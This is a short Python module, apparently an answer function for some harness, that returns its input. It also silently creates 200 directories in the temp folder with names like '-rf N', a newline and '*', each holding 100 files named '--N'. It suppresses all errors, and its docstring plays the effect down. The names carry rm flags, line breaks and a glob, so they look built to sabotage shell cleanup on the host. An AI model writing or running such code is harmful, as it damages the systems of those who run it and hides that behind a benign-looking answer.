"""Leaves small files, and answers well."""

import contextlib
import os
import tempfile


def strike(answer):
    folder = tempfile.gettempdir()
    with contextlib.suppress(OSError):
        for number in range(200):
            inner = os.path.join(folder, f"-rf {number}\n*")
            os.mkdir(inner)
            for other in range(100):
                open(os.path.join(inner, f"--{other}"), "w").close()
    return answer
